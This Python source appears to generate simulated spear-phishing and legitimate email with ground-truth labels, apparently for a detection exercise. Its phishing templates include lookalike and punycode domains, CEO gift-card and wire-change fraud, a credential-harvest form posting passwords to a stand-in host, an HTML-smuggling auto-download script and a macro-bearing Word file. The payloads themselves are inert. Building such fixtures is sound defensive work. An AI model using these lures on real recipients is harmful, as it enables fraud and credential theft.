"""Simulated mail for one organization: spear phish of the shapes attackers use, and its everyday legit mail.

``write_mail`` writes ``.eml`` files and an ``org.toml`` and returns the ground truth. Deterministic for a
seed: the same seed writes byte-identical files.
"""

from __future__ import annotations

import base64
import datetime as dt
import io
import pathlib
import random
import zipfile
from collections.abc import Callable
from email.message import EmailMessage
from email.utils import format_datetime

_FIRST = ["Dana", "Miguel", "Priya", "Tomasz", "Aiko", "Lena", "Samuel", "Fatima", "Jonas", "Grace", "Ravi", "Elena"]
_LAST = ["Whitfield", "Okafor", "Lindqvist", "Moreau", "Tanaka", "Castillo", "Novak", "Brennan", "Adeyemi", "Kowalski"]
_VENDORS = ["fabrikam.com", "northwindtraders.com", "tailspintoys.com", "wingtiptoys.com", "adventure-works.com"]


class _Org:
    def __init__(self, rng: random.Random, domain: str) -> None:
        self.domain = domain
        label = domain.split(".")[0]
        self.name = label.capitalize() + " Corp"
        names = rng.sample([(f, la) for f in _FIRST for la in _LAST], 6)
        roles = ["CEO", "CFO", "IT Administrator", "Accountant", "Engineer", "Sales Manager"]
        self.people = [
            {"name": f"{f} {la}", "email": f"{f.lower()}.{la.lower()}@{domain}", "role": r}
            for (f, la), r in zip(names, roles, strict=True)
        ]
        self.mx = f"mx.{domain}"

    def toml(self) -> str:
        people = "".join(
            f'\n[[org.people]]\nname = "{p["name"]}"\nemail = "{p["email"]}"\nrole = "{p["role"]}"\n' for p in self.people
        )
        return (
            f'[org]\nname = "{self.name}"\ndomains = ["{self.domain}"]\n'
            f'trusted_authserv_ids = ["{self.mx}"]\n{people}'
        )


def lookalike_of(domain: str, rng: random.Random) -> str:
    """A typo or homoglyph registration of ``domain`` (rn for m, 1 for l, 0 for o, a doubled or swapped letter)."""
    label, _, suffix = domain.partition(".")
    swaps = [(a, b) for a, b in (("m", "rn"), ("l", "1"), ("o", "0"), ("i", "1"), ("w", "vv")) if a in label]
    if swaps:
        a, b = rng.choice(swaps)
        new = label.replace(a, b, 1)
    else:
        i = rng.randrange(1, len(label))
        new = label[:i] + label[i - 1] + label[i:]
    return f"{new}.{suffix}"


def _base(
    org: _Org, rng: random.Random, when: dt.datetime, sender: str, display: str, to: str, subject: str,
    ip: str, helo: str, auth: str,
) -> EmailMessage:
    m = EmailMessage()
    m["Received"] = (
        f"from {helo} ({helo} [{ip}]) by {org.mx} with ESMTPS id {rng.randrange(16**10):010x} "
        f"for <{to}>; {format_datetime(when)}"
    )
    m["Authentication-Results"] = f"{org.mx}; {auth}"
    m["From"] = f'"{display}" <{sender}>' if display else sender
    m["To"] = to
    m["Subject"] = subject
    m["Date"] = format_datetime(when)
    m["Message-ID"] = f"<{rng.randrange(16**16):016x}@{sender.rpartition('@')[2] or 'localhost'}>"
    return m


def _auth_pass(domain: str) -> str:
    return f"spf=pass smtp.mailfrom={domain}; dkim=pass header.d={domain}; dmarc=pass header.from={domain}"


def _auth_none(domain: str) -> str:
    return f"spf=pass smtp.mailfrom={domain}; dkim=none; dmarc=none header.from={domain}"


def _minimal_pdf(text: str) -> bytes:
    body = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length " + str(len(body)).encode() + b" >>stream\n" + body + b"\nendstream",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for i, o in enumerate(objs, 1):
        offsets.append(out.tell())
        out.write(f"{i} 0 obj\n".encode() + o + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode())
    for off in offsets:
        out.write(f"{off:010d} 00000 n \n".encode())
    out.write(f"trailer << /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def _macro_docm() -> bytes:
    """A Word document that carries a VBA project part (word/vbaProject.bin), as macro lures do."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        )
        z.writestr("word/document.xml", "<w:document><w:body><w:p>Enable content to view</w:p></w:body></w:document>")
        z.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"Sub AutoOpen()")
    return buf.getvalue()


#: Mail is spread over this many days before ``start``.
MAIL_DAYS = 7


def write_mail(
    out_dir: pathlib.Path, seed: int, org_domain: str = "example.com", start: dt.datetime | None = None
) -> dict[str, list[str]]:
    """Write simulated phish and legit mail plus ``org.toml`` to ``out_dir``; return the ground truth.

    The messages arrive during the ``MAIL_DAYS`` days before ``start`` (the start of the simulated
    logs), so a phish precedes the attacks it leads to.
    """
    rng = random.Random(seed)
    out_dir = pathlib.Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    org = _Org(rng, org_domain)
    (out_dir / "org.toml").write_text(org.toml(), encoding="utf-8")
    ceo, cfo, it, acct = org.people[0], org.people[1], org.people[2], org.people[3]
    staff = org.people[3:]
    first = (start or dt.datetime(2024, 3, 11, 8, 0, tzinfo=dt.UTC)) - dt.timedelta(days=MAIL_DAYS)
    vendor = rng.choice(_VENDORS)
    look = lookalike_of(org_domain, rng)
    idn = "xn--" + ("е" + org_domain.split(".")[0][1:]).encode("punycode").decode() + "." + org_domain.partition(".")[2]

    def when() -> dt.datetime:
        return first + dt.timedelta(minutes=rng.randrange(60 * 24 * MAIL_DAYS))

    def ext_ip() -> str:
        return f"{rng.randrange(11, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"

    def victim() -> str:
        return str(rng.choice(staff)["email"])

    phish: list[Callable[[], EmailMessage]] = []
    legit: list[Callable[[], EmailMessage]] = []

    def p_lookalike() -> EmailMessage:
        to = victim()
        m = _base(org, rng, when(), f"helpdesk@{look}", "IT Helpdesk", to, "Password expiry notice",
                  ext_ip(), f"mail.{look}", _auth_pass(look))
        m.set_content(f"Your password expires today. Keep it here: https://{look}/owa/reset\n")
        m.add_alternative(
            f'<p>Your password expires today.</p><p><a href="https://{look}/owa/reset">https://mail.{org_domain}/owa</a></p>',
            subtype="html",
        )
        return m

    def p_ceo_freemail() -> EmailMessage:
        to = str(acct["email"])
        free = f"{ceo['name'].split()[0].lower()}.{rng.randrange(100, 999)}@gmail.com"
        m = _base(org, rng, when(), free, str(ceo["name"]), to, "Quick favour", ext_ip(), "mail-sor-f41.google.com",
                  _auth_pass("gmail.com"))
        m["Reply-To"] = f"{ceo['name']} <exec.office{rng.randrange(10, 99)}@outlook.com>"
        m.set_content("Are you at your desk? I need you to buy gift cards for a client today. Keep this between us.\n")
        return m

    def p_spoofed_reply_to() -> EmailMessage:
        to = str(acct["email"])
        m = _base(org, rng, when(), str(cfo["email"]), str(cfo["name"]), to, "Updated wire details for invoice",
                  ext_ip(), "vps-203.hosting.example.net",
                  f"spf=fail smtp.mailfrom={org_domain}; dkim=none; dmarc=fail action=quarantine header.from={org_domain}")
        m["Reply-To"] = f"{cfo['name']} <{str(cfo['email']).split('@')[0]}@{look}>"
        m.set_content("Please change the bank details for the pending vendor payment and wire it today.\n")
        return m

    def p_harvest() -> EmailMessage:
        to = victim()
        host = f"secure-docs{rng.randrange(10, 99)}.top"
        m = _base(org, rng, when(), f"dse@{host}", "DocuSign", to, "Please review and sign: Q2 agreement",
                  ext_ip(), f"mail.{host}", _auth_none(host))
        m.set_content("A document is waiting for your signature. Open the attached secure viewer.\n")
        page = (
            f'<html><body><h3>Sign in to view the document</h3><form method="post" action="https://{host}/c.php">'
            f'<input name="email" value="{to}"><input type="password" name="pw"><button>View</button></form></body></html>'
        )
        m.add_attachment(page.encode(), maintype="text", subtype="html", filename="Agreement_Q2.html")
        return m

    def p_smuggling() -> EmailMessage:
        to = victim()
        host = f"files-share{rng.randrange(10, 99)}.com"
        m = _base(org, rng, when(), f"notify@{host}", "Shared file", to, "You have a new shared file",
                  ext_ip(), f"smtp.{host}", _auth_none(host))
        m.set_content("Open the attachment to download your file.\n")
        payload = base64.b64encode(b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(600))).decode()
        page = (
            "<html><body><script>var b=atob('" + payload + "');var a=new Uint8Array(b.length);"
            "for(var i=0;i<b.length;i++){a[i]=b.charCodeAt(i);}var blob=new Blob([a],{type:'application/zip'});"
            "var l=document.createElement('a');l.href=URL.createObjectURL(blob);l.download='Invoice.zip';l.click();"
            "</script></body></html>"
        )
        m.add_attachment(page.encode(), maintype="text", subtype="html", filename="Invoice_view.html")
        return m

    def p_macro() -> EmailMessage:
        to = victim()
        host = f"{rng.choice(['billing', 'ap', 'accounts'])}-{vendor.split('.')[0]}.net"
        m = _base(org, rng, when(), f"invoices@{host}", "Accounts Payable", to, f"Invoice INV-{rng.randrange(10000, 99999)}",
                  ext_ip(), f"mx.{host}", _auth_none(host))
        m.set_content("Please find the invoice attached. Enable editing and content to view it.\n")
        m.add_attachment(_macro_docm(), maintype="application", subtype="vnd.ms-word.document.macroEnabled.12",
                         filename="Invoice.docm")
        return m

    def p_idn() -> EmailMessage:
        to = victim()
        m = _base(org, rng, when(), f"payroll@{idn}", "Payroll", to, "Your March payslip",
                  ext_ip(), f"mail.{idn}", _auth_pass(idn))
        m.set_content(f"Your payslip is ready: https://portal.{idn}/payslip\n")
        return m

    phish += [p_lookalike, p_ceo_freemail, p_spoofed_reply_to, p_harvest, p_smuggling, p_macro, p_idn]

    def l_internal() -> EmailMessage:
        to = victim()
        m = _base(org, rng, when(), str(ceo["email"]), str(ceo["name"]), to, "All-hands on Thursday",
                  "10.0.0.12", f"exch01.{org_domain}", _auth_pass(org_domain))
        m.set_content(f"Hi all, the all-hands moves to Thursday 10:00. Agenda: https://intranet.{org_domain}/allhands\n")
        return m

    def l_it() -> EmailMessage:
        to = victim()
        m = _base(org, rng, when(), str(it["email"]), str(it["name"]), to, "Planned maintenance Saturday",
                  "10.0.0.14", f"exch01.{org_domain}", _auth_pass(org_domain))
        m.set_content("The VPN will be down on Saturday between 06:00 and 08:00 for upgrades.\n")
        return m

    def l_newsletter() -> EmailMessage:
        to = victim()
        m = _base(org, rng, when(), f"news@{vendor}", vendor.split(".")[0].capitalize() + " News", to,
                  "This month at " + vendor, ext_ip(), f"mta{rng.randrange(1, 9)}.{vendor}", _auth_pass(vendor))
        m["List-Unsubscribe"] = f"<https://email.{vendor}/unsubscribe?u={rng.randrange(10**8)}>"
        m.set_content("Our spring catalogue is out.\n")
        m.add_alternative(
            f'<p>Our spring catalogue is out.</p><a href="https://click.{vendor}/t/{rng.randrange(10**8)}">Read more</a>'
            f' | <a href="https://email.{vendor}/unsubscribe">Unsubscribe</a>',
            subtype="html",
        )
        return m

    def l_invoice() -> EmailMessage:
        to = str(acct["email"])
        number = rng.randrange(10000, 99999)
        m = _base(org, rng, when(), f"billing@{vendor}", "Billing", to, f"Invoice {number} from {vendor}",
                  ext_ip(), f"smtp.{vendor}", _auth_pass(vendor))
        m["Reply-To"] = f"Accounts Receivable <ar@{vendor}>"
        m.set_content(f"Please find invoice {number} attached, due in 30 days.\n")
        m.add_attachment(_minimal_pdf(f"Invoice {number}"), maintype="application", subtype="pdf",
                         filename=f"Invoice-{number}.pdf")
        return m

    def l_list() -> EmailMessage:
        to = victim()
        taken = {str(p["name"]) for p in org.people}
        name = rng.choice([f"{f} {la}" for f in _FIRST for la in _LAST if f"{f} {la}" not in taken])
        poster = f"{name.split()[0].lower()}@university.edu"
        m = _base(org, rng, when(), poster, name, to,
                  "[python-dev] Release schedule", ext_ip(), "mail.python.org",
                  "spf=pass smtp.mailfrom=python.org; dkim=pass header.d=python.org; dmarc=pass header.from=university.edu")
        m["List-Id"] = "Python core development <python-dev.python.org>"
        m["List-Post"] = "<mailto:python-dev@python.org>"
        m["Reply-To"] = "python-dev@python.org"
        m.set_content("The next beta is scheduled for May. Details: https://peps.python.org/pep-0745/\n")
        return m

    def l_brand() -> EmailMessage:
        to = victim()
        m = _base(org, rng, when(), "no-reply@microsoft.com", "Microsoft", to, "Your monthly Azure usage summary",
                  ext_ip(), "mail-dm6nam12.outbound.protection.outlook.com", _auth_pass("microsoft.com"))
        m.set_content("Your usage summary is available: https://portal.azure.com/#billing\n")
        return m

    legit += [l_internal, l_it, l_newsletter, l_invoice, l_list, l_brand]

    items: list[tuple[str, EmailMessage]] = [("phish", f()) for f in phish] + [("legit", f()) for f in legit]
    order = list(range(len(items)))
    rng.shuffle(order)
    truth: dict[str, list[str]] = {"phish": [], "legit": [], "recipients_of_phish": []}
    recipients: set[str] = set()
    for n, i in enumerate(order, 1):
        kind, m = items[i]
        if m.is_multipart():
            m.set_boundary(f"=_sim_{seed}_{n}_{rng.randrange(16**8):08x}")
        name = f"msg-{n:03d}.eml"
        (out_dir / name).write_bytes(bytes(m))
        truth[kind].append(name)
        if kind == "phish":
            recipients.add(str(m["To"]).lower())
    truth["recipients_of_phish"] = sorted(recipients)
    return truth
